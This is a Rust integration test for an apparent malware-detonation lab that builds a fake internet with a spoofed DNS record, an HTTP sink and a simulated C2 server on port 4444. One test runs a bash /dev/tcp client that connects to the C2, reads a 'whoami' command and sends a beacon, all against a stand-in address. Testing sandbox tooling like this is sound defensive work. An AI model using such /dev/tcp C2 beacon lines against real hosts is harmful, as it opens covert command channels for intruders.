//! The lab network through its Rust API, live (namespaces, so root). Under
//! `CI=true` these fail when they cannot run; elsewhere they print why and skip.

mod common {
    pub mod leftovers;
}

use std::io::{BufRead, BufReader};
use std::os::fd::RawFd;
use std::process::{Command, Stdio};

use common::leftovers::{can_isolate, ns_users};
use ioclab_lab::network::{LabNetConfig, LabNetwork};
use ioclab_sandbox::detonation::{DnsRecord, DnsRecordData};
use ioclab_sandbox::fakenet::{Service, ServiceKind};

fn blog_records() -> Vec<DnsRecord> {
    vec![
        DnsRecord { name: "why.kunai.rocks".into(), data: DnsRecordData::CNAME("kunai-project.github.io".into()) },
        DnsRecord { name: "kunai-project.github.io".into(), data: DnsRecordData::A([127, 0, 66, 80].into()) },
    ]
}

fn output(net: &LabNetwork, script: &str) -> (bool, String) {
    let mut cmd = Command::new("bash");
    cmd.args(["-c", script]).stdout(Stdio::piped()).stderr(Stdio::piped());
    let out = net.spawn(&mut cmd).expect("spawn inside").wait_with_output().unwrap();
    (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr))
}

/// `net:[inode]` of the namespace behind `fd`.
fn ns_link(fd: RawFd) -> String {
    std::fs::read_link(format!("/proc/self/fd/{fd}")).unwrap().to_string_lossy().into_owned()
}

#[test]
fn scenario_services_answer_and_everything_goes_away_at_stop() {
    if !can_isolate() {
        return;
    }
    let services = vec![
        Service {
            ip: Some([127, 0, 66, 80].into()),
            port: 80,
            kind: ServiceKind::Http { body: b"Kunai rocks!\n".to_vec(), content_type: "text/plain".into() },
        },
        Service {
            ip: Some([198, 51, 100, 7].into()),
            port: 4444,
            kind: ServiceKind::C2 { send: b"whoami\n".to_vec() },
        },
    ];
    let net = LabNetwork::start(LabNetConfig { records: blog_records(), services }).expect("lab network");
    let link = ns_link(net.netns_fd());

    // the page the scenario gave, by name through the CNAME; other addresses keep the sink's
    let (ok, page) = output(&net, "curl -s -m 5 http://why.kunai.rocks/");
    assert!(ok && page == "Kunai rocks!\n", "{page}");
    let (ok, page) = output(&net, "curl -s -m 5 http://203.0.113.5/");
    assert!(ok && page.contains("ioclab sink"), "{page}");

    // the C2 sends its command and keeps the connection while the client beacons
    let mut client = Command::new("bash");
    client.args([
        "-c",
        "exec 3<>/dev/tcp/198.51.100.7/4444; read -r cmd <&3; echo \"got $cmd\"; echo beacon-1 >&3; cat <&3",
    ]);
    client.stdout(Stdio::piped());
    let mut client = net.spawn(&mut client).expect("C2 client");
    let mut line = String::new();
    BufReader::new(client.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "got whoami\n");
    let beacon = loop {
        if let Some(f) = net.log().tcp.iter().find(|f| f.dst.to_string() == "198.51.100.7:4444" && f.bytes > 0) {
            break f.clone();
        }
        std::thread::yield_now();
    };
    assert_eq!(beacon.head, b"beacon-1\n");
    assert!(client.try_wait().unwrap().is_none(), "the C2 keeps the client connected");

    // resolv.conf inside is the lab's, the host's is untouched
    let (_, conf) = output(&net, "cat /etc/resolv.conf");
    assert!(conf.contains("nameserver 127.0.0.53"), "{conf}");
    assert!(!std::fs::read_to_string("/etc/resolv.conf").unwrap().contains("ioclab fake internet"));

    let log = net.stop();
    assert!(log.http.iter().any(|h| h.host == "why.kunai.rocks" && h.dst.to_string() == "127.0.66.80:80"), "{log:?}");
    assert!(log.dead_hosts.is_empty(), "port 4444 is served: {:?}", log.dead_hosts);
    // the still-connected client was killed with the network, and nothing holds the namespace
    assert!(client.wait().unwrap().code().is_none(), "killed by a signal");
    assert!(ns_users(&link).is_empty(), "{link}: {:?}", ns_users(&link));
}

#[test]
fn the_resolver_port_is_not_a_service() {
    if !can_isolate() {
        return;
    }
    let services = vec![Service { ip: None, port: 53, kind: ServiceKind::C2 { send: Vec::new() } }];
    let err = LabNetwork::start(LabNetConfig { records: Vec::new(), services }).unwrap_err().to_string();
    assert!(err.contains("port 53 is the resolver's"), "{err}");
}
